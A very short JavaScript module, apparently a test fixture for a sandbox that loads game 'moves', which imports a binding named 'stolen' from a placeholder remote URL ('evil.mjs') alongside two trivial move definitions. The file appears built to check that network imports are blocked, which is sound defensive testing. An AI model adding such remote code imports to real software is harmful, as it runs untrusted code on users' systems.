// Imports from the net.
import stolen from 'https://example.org/evil.mjs';
export const moves = {
  good: { apply: ({ me }) => { me.score += 1; } },
  bad: { apply: () => {} },
};
